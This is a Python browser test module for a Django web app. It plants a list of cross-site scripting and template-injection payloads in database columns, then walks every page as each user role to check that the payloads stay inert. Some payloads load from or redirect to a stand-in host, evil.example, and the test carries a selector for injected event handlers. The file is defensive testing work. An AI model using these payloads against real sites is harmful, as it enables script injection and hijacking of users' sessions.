"""Every page as every role in a real browser, with hostile words in every column: what the browser says about it.

``prepare`` and ``plant`` run in the database of a server that is about to start or runs; ``Walk`` opens the pages.
"""

from __future__ import annotations

import json
import subprocess
import sys
from typing import Any

from tests.jobs.test_serve import ROOT, Served

#: Typed by people who mean harm, or by a scanner; each is plain text and must be shown as such (T15).
PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>", "javascript:alert(1)", "<a href=\"javascript:alert(1)\">a</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "{{7*7}}{% debug %}{{ request }}", "${alert(1)}", "`-alert(1)-`", "';alert(1);//", "\\\";alert(1);//",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<form action=https://evil.example/><button>",
    "<object data=https://evil.example/x></object>", "<embed src=https://evil.example/x>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<p id=main class=govuk-error-summary>", "<div id=live data-seq=9>",
    "<x contenteditable onblur=alert(1)>",
]  # fmt: skip

#: Not pages: downloads, fragments, answers for programs, and what ends the session.
NO_PAGES = ("/files/", "/receipt/", "/letter/", "/reminders/", "/events/", "/metrics", "/healthz", "/readyz",
            "/.well-known", "/robots", "/logout/", "/session/", "/import/template/", "/jsi18n/", "/oidc/", "/api/v1/o", "/api/v1/d", "/api/v1/c", "/api/v1/a", "/api/v1/r",
            "/api/v1/s")  # fmt: skip
WALKERS = ("nobody", "business", "own", "supervisor", "headquarters", "official", "administrator")
LANGUAGES = ("en", "zh-hant", "zh-hans")

#: Collects what the policy stopped, before any script of the page runs.
WATCH = """
window.stopped = [];
document.addEventListener("securitypolicyviolation", (e) => window.stopped.push(e.violatedDirective + " " + e.blockedURI));
"""

_PREPARE = """
import json, sys
import django
django.setup()
from tests.access.asking import address_of
from tests.access.table import table
from tests.access.world import build_world
from tests.browser.walk import NO_PAGES, WALKERS
world = build_world()
pages = {role: [] for role in WALKERS}
for line in table():
    if line.address.startswith("/ws/"):
        continue
    address = address_of(line.address, line.example, world)
    if "/admin/routing/" in address and "/routing/authority/" not in address:
        continue  # one kind of reference row is shown like the other
    if any(part in address for part in NO_PAGES) and not address.endswith("/api/v1/docs/"):
        continue
    for role in WALKERS:
        if line.allows(role, "GET"):
            pages[role].append(address)
print(json.dumps({"pages": pages, "cookies": {role: world.cookies[role] for role in WALKERS}}))
"""
_PLANT = """
import sys
import django
django.setup()
from tests.browser.walk import plant_words
plant_words([int(number) for number in sys.argv[1:]])
"""


def prepare(served: Served) -> dict[str, Any]:
    """Make the world of ``tests.access`` in the server's database; the pages of each role and its cookies."""
    found: dict[str, Any] = json.loads(_run(served, _PREPARE).splitlines()[-1])
    return found


def plant(served: Served, *numbers: int) -> None:
    """Write these payloads, one after the other, into every column of words that somebody outside or inside typed."""
    _run(served, _PLANT, *map(str, numbers))


def _run(served: Served, code: str, *arguments: str) -> str:
    done = subprocess.run(
        [sys.executable, "-c", code, *arguments],
        cwd=ROOT,
        env=served.env,
        timeout=180,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


def plant_words(numbers: list[int]) -> None:
    """In the server's database. A payload is cut to what the column holds."""
    from itertools import cycle

    from django.db import models

    from tests.access.canaries import columns, tables

    words, known = cycle(PAYLOADS[number] for number in numbers), tables()
    for label, kinds in columns().items():
        if not label.startswith(("cases.", "accounts.User")) or label == "cases.Reading":
            continue
        for name, kind in kinds.items():
            field: Any = known[label]._meta.get_field(name)
            if (
                kind not in ("internal", "own")
                or isinstance(field, models.JSONField)
                or field.unique
                or "email" in name
            ):
                continue
            for row in known[label]._default_manager.order_by("pk"):
                known[label]._default_manager.filter(pk=row.pk).update(
                    **{name: next(words)[: field.max_length]}
                )


class Walk:
    """One browser; ``problems`` are what it found, each with the page."""

    def __init__(self, chromium: Any, address: str) -> None:
        self.chromium, self.address = chromium, address
        self.problems: list[str] = []
        self.opened = 0

    def pages(
        self, role: str, cookies: dict[str, str], addresses: list[str], languages: tuple[str, ...]
    ) -> None:
        """Open each of these as this role, in each language where it has one."""
        context = self.chromium.new_context()
        context.add_init_script(WATCH)
        context.add_cookies([{"name": n, "value": v, "url": self.address} for n, v in cookies.items()])
        page = context.new_page()
        page.set_default_timeout(15_000)
        page.on("dialog", lambda dialog: self._dismissed(page, dialog))
        page.on("pageerror", lambda error: self._problem(page, f"script: {error}"))
        page.on("console", lambda said: self._heard(page, said))
        page.on("request", lambda request: self._asked(page, request.url))
        for address in addresses:
            for language in languages if address.startswith("/en/") else languages[:1]:
                here = address.replace("/en/", f"/{language}/", 1)
                answer = page.goto(self.address + here, wait_until="load")
                self.opened += 1
                self._look(page, role, here, answer.status)
        context.close()

    def _look(self, page: Any, role: str, here: str, status: int) -> None:
        if status >= 500:
            self._problem(page, f"answered {status} to {role}")
        stopped = page.evaluate("window.stopped")
        if stopped:
            self._problem(page, f"stopped by the policy as {role}: {stopped}")
        odd = page.evaluate(
            "document.querySelectorAll('[onerror],[onload],[onfocus],[ontoggle],[onblur],[onmouseover],iframe,object,"
            'embed,base,[srcdoc],[href^="javascript:"],style,script:not([src]):not([type="application/json"])\').length'
        )
        if odd:
            self._problem(page, f"{odd} elements that nobody of us wrote, as {role}")

    def _heard(self, page: Any, said: Any) -> None:
        # Chromium reports every answer of 400 and above as an error of the console; refusals are what we show.
        if said.type in ("error", "warning") and "Failed to load resource" not in said.text:
            self._problem(page, f"console {said.type}: {said.text}")

    def _asked(self, page: Any, url: str) -> None:
        if not url.startswith((self.address, "data:", self.address.replace("http", "ws", 1))):
            self._problem(page, f"asked {url}")

    def _dismissed(self, page: Any, dialog: Any) -> None:
        self._problem(page, "a dialog")
        dialog.dismiss()

    def _problem(self, page: Any, what: str) -> None:
        self.problems.append(f"{page.url.removeprefix(self.address)}: {what}")
